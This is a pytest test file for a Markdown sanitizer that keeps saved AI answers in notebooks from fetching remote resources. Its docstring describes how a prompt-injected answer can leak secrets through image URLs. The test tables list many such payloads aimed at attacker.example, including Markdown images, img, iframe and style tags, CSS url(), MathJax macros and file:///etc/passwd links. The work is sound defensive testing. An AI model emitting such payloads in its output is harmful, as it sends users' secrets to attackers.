"""``without_remote_fetches``: the saved ``text/markdown`` of an answer loads nothing.

Why (issue 7, security): a prompt-injected answer can write
``![x](https://attacker/?q=<secret>)`` or ``<img src=...>``; a notebook opened without
widget state, nbconvert, GitHub or VS Code render the saved Markdown and would fetch it.

Each rewrite is checked by rendering the output the way those readers do, with
markdown-it-py (CommonMark + GFM tables, as JupyterLab's and VS Code's renderers parse) and
with nbconvert's own Markdown renderer (mistune), and looking at the HTML with Python's
``html.parser``: no element or attribute that loads anything (``<img>``, ``src=``,
``srcset=``, ``style=...url(``...), the text still there, code still code.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from gemini_widgets.safe_markdown import IMAGE_MARK, without_remote_fetches

EVIL = "https://attacker.example/?q=secret"
RASTER = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4"
    "DwABBAEAcCBlCwAAAABJRU5ErkJggg=="
)

# ---- how a reader renders it, and what in that HTML would load something ----------------

_MD = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
# markdown-it makes no image of `![x](javascript:...)` or `data:image/svg+xml`; a reader's
# renderer may. This one takes any URL.
_ANY_URL = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_ANY_URL.validateLink = lambda url: True  # type: ignore[method-assign]


def render_markdown_it(markdown: str) -> str:
    return _MD.render(markdown)


def render_any_url(markdown: str) -> str:
    return _ANY_URL.render(markdown)


def render_nbconvert(markdown: str) -> str:
    return markdown2html_mistune(markdown)


RENDERERS = [render_markdown_it, render_any_url, render_nbconvert]

LOADING_TAGS = {
    "img", "image", "svg", "video", "audio", "source", "picture", "iframe", "frame",
    "object", "embed", "link", "style", "script", "track", "input", "meta", "base", "use",
    "feimage", "applet", "bgsound", "math",
}  # fmt: skip
LOADING_ATTRIBUTES = {
    "src", "srcset", "background", "poster", "data", "lowsrc", "dynsrc", "xlink:href",
    "formaction", "action", "ping", "codebase", "longdesc", "manifest",
}  # fmt: skip


class _Page(HTMLParser):
    """What a page would load, its visible text (with images' alt text), its code."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.loads: list[str] = []
        self.text: list[str] = []
        self.code: list[str] = []
        self._in_code = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag == "img" and re.fullmatch(r"data:image/png;base64,[A-Za-z0-9+/]+=*", values["src"]):
            self.text.append(values.get("alt", ""))
            return  # an inline raster image: nothing to fetch
        if tag in LOADING_TAGS:
            self.loads.append(f"<{tag}>")
        for name, value in values.items():
            if name in LOADING_ATTRIBUTES or (name == "href" and tag != "a"):
                self.loads.append(f"<{tag} {name}={value!r}>")
            if name == "style" and re.search(r"url|image|\\", value, re.IGNORECASE):
                self.loads.append(f"<{tag} style={value!r}>")
        if tag == "img":
            self.text.append(values.get("alt", ""))
        if tag == "code":
            self._in_code += 1
            self.code.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "code":
            self._in_code -= 1

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self._in_code:
            self.code[-1] += data


def page(html: str) -> _Page:
    parser = _Page()
    parser.feed(html)
    parser.close()
    return parser


def loads(markdown: str, renderers: list[Callable[[str], str]] = RENDERERS) -> list[str]:
    """Everything that would load, as rendered by each reader."""
    return [f"{r.__name__}: {x}" for r in renderers for x in page(r(markdown)).loads]


def visible(markdown: str) -> str:
    return "".join("".join(page(render_any_url(markdown)).text).split())


def is_subsequence(small: str, big: str) -> bool:
    chars = iter(big)
    return all(char in chars for char in small)


def has_html_block(markdown: str) -> bool:
    return any(token.type == "html_block" for token in _MD.parse(markdown))


def code_that_could_load(markdown: str) -> bool:
    codes = page(render_markdown_it(markdown)).code
    return any("<" in code or "![" in code or "]:" in code for code in codes)


def check(markdown: str) -> str:
    """Rewrite ``markdown`` and check the invariants every output must keep."""
    safe = without_remote_fetches(markdown)
    # Code is left as it is, and what is code is CommonMark's call. mistune (nbconvert's)
    # does not always agree (see test_where_nbconvert_parses_code_differently); so it is
    # asked only about documents whose code holds nothing that could load.
    renderers = RENDERERS if not code_that_could_load(safe) else RENDERERS[:2]
    assert loads(safe, renderers) == [], safe
    assert without_remote_fetches(safe) == safe, "not idempotent"
    if not has_html_block(markdown):
        # (An escaped HTML block's text is Markdown from then on: a ``` line in it opens
        # a code block, which changes what follows. Safe, but not the same code.)
        before, after = page(render_markdown_it(markdown)), page(render_markdown_it(safe))
        missing = Counter(before.code) - Counter(after.code)
        assert not missing, f"code changed: {missing}"
    return safe


# ---- every vector ----------------------------------------------------------------------

M = IMAGE_MARK

REWRITES = [
    # inline images
    (f"![x]({EVIL})", f"{M} [x]({EVIL})"),
    (f'Hi ![chart]({EVIL} "Title") there', f'Hi {M} [chart]({EVIL} "Title") there'),
    (f"![x](<{EVIL}>)", f"{M} [x](<{EVIL}>)"),
    (f"![]({EVIL})", f"{M} [image]({EVIL})"),
    (f"![a [nested] alt]({EVIL})", f"{M} [a [nested] alt]({EVIL})"),
    (f"![x](\n{EVIL}\n)", f"{M} [x](\n{EVIL}\n)"),
    # reference images: the definition stays, the link resolves through it
    (f"![x][ref]\n\n[ref]: {EVIL}", f"{M} [x][ref]\n\n[ref]: {EVIL}"),
    (f"![x][]\n\n[x]: <{EVIL}> 'T'", f"{M} [x][]\n\n[x]: <{EVIL}> 'T'"),
    (f"![x]\n\n[x]: {EVIL}", f"{M} [x]\n\n[x]: {EVIL}"),
    (f"![My *Pic*][R]\n\n[r]:\n  {EVIL}", f"{M} [My *Pic*][R]\n\n[r]:\n  {EVIL}"),
    # images in links (links do not nest) and in images
    (f"[![badge]({EVIL})](https://ci.example)", f"[{M} badge](https://ci.example)"),
    (f"[![]({EVIL})](https://ci.example)", f"[{M} image](https://ci.example)"),
    (
        f"[![b][r]](https://ci.example)\n\n[r]: {EVIL}",
        f"[{M} b](https://ci.example)\n\n[r]: {EVIL}",
    ),
    (f"![outer ![inner]({EVIL})]({EVIL})", f"{M} [outer {M} inner]({EVIL})"),
    # neighbours that could re-form an image
    (f"!![x]({EVIL})", f"!{M} [x]({EVIL})"),
    (f"\\![not an image]({EVIL})", f"\\![not an image]({EVIL})"),
    # data: raster images fetch nothing and stay; other data: or script URLs lose the URL
    (f"![dot]({RASTER})", f"![dot]({RASTER})"),
    ("![s](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)", f"{M} s"),
    ("![s](data:image/png,%89PNG)", f"{M} s"),
    ("![x](javascript:alert(1))", f"{M} x"),
    ("![x](file:///etc/passwd)", f"{M} x"),
    # raw HTML: escaped, except attribute-less formatting tags
    (f'<img src="{EVIL}">', f'&lt;img src="{EVIL}">'),
    (
        "a <img src=https://attacker.example/x.png> b",
        "a &lt;img src=https://attacker.example/x.png> b",
    ),
    # not tags in CommonMark, but a looser parser might make them one: escaped all the same
    (f"a <img src={EVIL}> b", f"a &lt;img src={EVIL}> b"),
    (f'<img\nsrc="{EVIL}"> | x\n|---|---|', f'&lt;img\nsrc="{EVIL}"> | x\n|---|---|'),
    ("$a<b$, $x<y \\le z$ and a < b", "$a<b$, $x<y \\le z$ and a < b"),
    (f"<IMG SRC='{EVIL}' />", f"&lt;IMG SRC='{EVIL}' />"),
    (f'x <image href="{EVIL}"/>', f'x &lt;image href="{EVIL}"/>'),
    (f'<svg><image href="{EVIL}"/></svg>', f'&lt;svg>&lt;image href="{EVIL}"/>&lt;/svg>'),
    (f'<video poster="{EVIL}"></video>', f'&lt;video poster="{EVIL}">&lt;/video>'),
    (f'<audio src="{EVIL}"></audio>', f'&lt;audio src="{EVIL}">&lt;/audio>'),
    (
        f'<picture><source srcset="{EVIL}"><img src="x"></picture>',
        f'&lt;picture>&lt;source srcset="{EVIL}">&lt;img src="x">&lt;/picture>',
    ),
    (f'<iframe src="{EVIL}"></iframe>', f'&lt;iframe src="{EVIL}">&lt;/iframe>'),
    (f'<object data="{EVIL}"></object>', f'&lt;object data="{EVIL}">&lt;/object>'),
    (f'<embed src="{EVIL}">', f'&lt;embed src="{EVIL}">'),
    (f'<link rel="stylesheet" href="{EVIL}">', f'&lt;link rel="stylesheet" href="{EVIL}">'),
    (f"<style>@import '{EVIL}';</style>", f"&lt;style>@import '{EVIL}';&lt;/style>"),
    (f'a <input type="image" src="{EVIL}"> b', f'a &lt;input type="image" src="{EVIL}"> b'),
    (f'<table background="{EVIL}"><tr><td>x</td></tr></table>', None),
    (f"a <span style=\"background:url('{EVIL}')\">x</span>", None),
    (f'<div style="background-image:url({EVIL})">\n\nx\n</div>', None),
    ("a <!-- hidden --> b", "a &lt;!-- hidden --> b"),
    ("x <br> y <sub>2</sub> <b>bold</b><br/>", "x <br> y <sub>2</sub> <b>bold</b><br/>"),
    (
        "<details>\n<summary>More</summary>\n\nbody\n</details>",
        "&lt;details>\n&lt;summary>More</summary>\n\nbody\n&lt;/details>",
    ),
    ("- <b>\n`<img src=x>`", "- &lt;b>\n`<img src=x>`"),  # mistune ran the block on
    # an HTML block's content becomes Markdown, so what it hid is rewritten too
    (f"<div>\n![x]({EVIL})\n</div>", f"&lt;div>\n{M} [x]({EVIL})\n&lt;/div>"),
    # TeX macros that take CSS (MathJax) lose their power; elsewhere they read the same
    (
        f"$\\style{{background:url({EVIL})}}{{x}}$",
        f"$\\\\style{{background:url({EVIL})}}{{x}}$",
    ),
    (
        f"$$\n\\bbox[background:url({EVIL})]{{x}}\n$$",
        f"$$\n\\\\bbox[background:url({EVIL})]{{x}}\n$$",
    ),
    (
        f'$\\mmlToken{{mi}}[style="background:url({EVIL})"]{{x}}$',
        f'$\\\\mmlToken{{mi}}[style="background:url({EVIL})"]{{x}}$',
    ),
    ("$\\\\style$ and $\\stylish$", "$\\\\style$ and $\\stylish$"),
    # autolinks and links are links: kept
    (f"<{EVIL}> and [x]({EVIL})", f"<{EVIL}> and [x]({EVIL})"),
    # line endings become \n
    (f"a\r\nb ![x]({EVIL})\r\n", f"a\nb {M} [x]({EVIL})\n"),
]


@pytest.mark.parametrize(("markdown", "expected"), REWRITES)
def test_each_vector_is_rewritten_and_nothing_loads(markdown: str, expected: str | None) -> None:
    safe = check(markdown)
    if expected is not None:
        assert safe == expected
    assert "attacker" not in "".join(loads(safe))


@pytest.mark.parametrize(("markdown", "expected"), REWRITES)
def test_the_rendered_text_is_kept(markdown: str, expected: str | None) -> None:
    """What a reader saw before (alt text included) is still there, in order."""
    if "<div>\n" in markdown or "<details>" in markdown:
        return  # an HTML block's text was literal; now it is Markdown (see the test above)
    before = visible(markdown)
    for dropped in ("https://", "javascript:", "file:", "data:"):  # a URL becomes a link's
        before = before.replace(dropped, "")
    assert is_subsequence(before, visible(without_remote_fetches(markdown)))


def test_the_vectors_did_load_before_the_rewrite() -> None:
    """The renderers and the detector see the attacks, so the tests above are not vacuous.
    (Not the TeX ones: MathJax runs in the browser, after these renderers.)"""
    attacks = [md for md, safe in REWRITES if md != safe and "$" not in md and "attacker" in md]
    quiet = [md for md in attacks if not loads(md)]
    assert quiet == [
        f"a <img src={EVIL}> b",  # text to these parsers (a looser one may differ)
        f"<div>\n![x]({EVIL})\n</div>",  # literal text inside an HTML block
    ]
    assert len(attacks) > 30


def test_images_keep_their_links_and_definitions() -> None:
    safe = without_remote_fetches(f"See ![the chart][c].\n\n[c]: {EVIL} 'Sales'")
    html = render_markdown_it(safe)
    assert f'{M} <a href="{EVIL}" title="Sales">the chart</a>' in html.replace("&amp;", "&")


def test_allowed_tags_stay_html_in_a_paragraph_or_a_table() -> None:
    markdown = "H<sub>2</sub>O <kbd>Ctrl</kbd><br>\n\n| a |\n|---|\n| 1<br>2 |"
    assert without_remote_fetches(markdown) == markdown
    html = render_markdown_it(markdown)
    assert "<sub>2</sub>" in html and "<td>1<br>2</td>" in html


def test_an_html_block_of_allowed_tags_shows_as_text_and_what_it_hid_is_rewritten() -> None:
    for inside in (f"![x]({EVIL})", f"$\\style{{background:url({EVIL})}}{{x}}$"):
        safe = check(f"<details>\n{inside}\n</details>")
        assert safe.startswith("&lt;details>")
        assert inside not in safe


# ---- code is left exactly as it is -------------------------------------------------------

DOCUMENT = f"""# Report ![logo]({EVIL})

Intro with `![inline](http://code.example/a.png)` and `` <img src="x"> `` in code.

```markdown
![x](http://code.example/fence.png)
<img src="http://code.example/fence.png">
$\\style{{background:url(http://code.example/)}}{{x}}$
```

~~~
<iframe src="http://code.example/tilde"></iframe>
~~~

    ![indented](http://code.example/indented.png)
    <img src="http://code.example/indented.png">

- a list ![item]({EVIL})
  ```html
  <img src="http://code.example/in-list.png">
  ```
> quoted <img src="{EVIL}"> and ![q]({EVIL})
> ```
> <video src="http://code.example/in-quote.mp4"></video>
> ```

| column | other |
|---|---|
| ![cell]({EVIL}) | `<img src="http://code.example/cell">` \\| <b>ok</b> |

````
```
![x](http://code.example/nested-fence.png)
```
````
"""

CODE_REGIONS = [
    "`![inline](http://code.example/a.png)`",
    '`` <img src="x"> ``',
    '```markdown\n![x](http://code.example/fence.png)\n<img src="http://code.example/fence.png">\n'
    "$\\style{background:url(http://code.example/)}{x}$\n```",
    '~~~\n<iframe src="http://code.example/tilde"></iframe>\n~~~',
    "    ![indented](http://code.example/indented.png)\n"
    '    <img src="http://code.example/indented.png">',
    '  ```html\n  <img src="http://code.example/in-list.png">\n  ```',
    '> ```\n> <video src="http://code.example/in-quote.mp4"></video>\n> ```',
    '`<img src="http://code.example/cell">`',
    "````\n```\n![x](http://code.example/nested-fence.png)\n```\n````",
]


def test_a_whole_document_keeps_its_code_and_loads_nothing() -> None:
    safe = check(DOCUMENT)
    for region in CODE_REGIONS:
        assert region in DOCUMENT
        assert region in safe, region
    assert loads(DOCUMENT), "the document did load something before"
    assert "attacker" not in "".join(loads(safe))
    # Nothing but the fetching constructs changed.
    assert safe.count(M) == 4
    assert without_remote_fetches(safe) == safe
    assert "code.example" in "".join(page(render_markdown_it(safe)).code)
    assert is_subsequence(visible(DOCUMENT).replace("https://", ""), visible(safe))


def test_text_without_anything_to_rewrite_is_returned_as_is() -> None:
    for text in ("", "plain", "a < b and c > d, 3 ! 4", "# T\n\n- [x](https://e)\n\n`![a](b)`"):
        assert without_remote_fetches(text) == text


def test_input_too_deep_to_parse_reliably_becomes_a_code_block() -> None:
    deep = ">" * 150 + f" ![x]({EVIL})"
    safe = check(deep)
    assert safe.startswith("```text\n") and deep in safe
    nested = "![a " * 20 + "x" + f"]({EVIL})" * 20
    safe = check(nested)
    assert safe.startswith("```text\n")


# ---- random documents ----------------------------------------------------------------------

_PIECES = [
    "text", "more words", "a < b", "x > y", "3!", "*em*", "**strong**", "~~gone~~",
    "`code ![c](http://code.example/c)`", "`` <img src=x> ``", "\\!", "\\<", "\\\\",
    f"![a]({EVIL})", f"![]({EVIL})", f'![t]({EVIL} "title")', f"![b](<{EVIL}>)", "![r][ref]",
    "![ref]", "![ref][]", f"[link]({EVIL})", f"[![in link]({EVIL})](https://page)",
    f"![nest ![inner]({EVIL})]({EVIL})", f"![dot]({RASTER})", "![s](data:image/svg+xml,x)",
    f"<img src={EVIL}>", f'<img\nsrc="{EVIL}">', f'<video poster="{EVIL}">', "<br>", "<sub>",
    "</sub>", f"<span style=\"background:url('{EVIL}')\">", "<!-- c -->", "<div>", "</div>",
    f"<{EVIL}>", f"$\\style{{background:url({EVIL})}}{{x}}$", "$\\bbox[red]{x}$", "$x<y$",
    "[ref]: " + EVIL, "[", "]", "(", ")", "!", "<", "|", "\\|", "#", "> ", "- ", "1. ",
    "```", "~~~", "    ", "\t", "***",
]  # fmt: skip
_JOINS = ["", " ", "\n", "\n\n", "\n> ", "\n- ", "\n    ", " | ", "\n|---|---|\n| ", "\n```\n"]


@st.composite
def documents(draw: st.DrawFn) -> str:
    parts = draw(
        st.lists(st.tuples(st.sampled_from(_PIECES), st.sampled_from(_JOINS)), max_size=30)
    )
    return "".join(piece + join for piece, join in parts)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(documents())
def test_random_documents_load_nothing_and_keep_their_code(markdown: str) -> None:
    safe = check(markdown)
    assert not safe.startswith("```text\n"), "gave up on an ordinary document"
    if "<" not in markdown:  # without HTML, all visible text stays visible
        before = visible(markdown)
        for dropped in ("https://",):
            before = before.replace(dropped, "")
        assert is_subsequence(before, visible(safe))


def test_where_nbconvert_parses_code_differently() -> None:
    """A known limit, kept visible: code is left exactly as written, and what is code is
    CommonMark's call. mistune 3 (nbconvert's renderer) continues a list item in a quote
    onto a following indented line that CommonMark makes a code block, so it renders the
    image written there. Closing this would mean changing code text."""
    markdown = f"text\n> - \n    ![a]({EVIL})"
    safe = without_remote_fetches(markdown)
    assert safe == markdown
    assert page(render_markdown_it(safe)).code == [f"![a]({EVIL})\n"]
    assert loads(safe, RENDERERS[:2]) == []
    assert loads(safe, [render_nbconvert]) != []  # if this fails, mistune was fixed: good
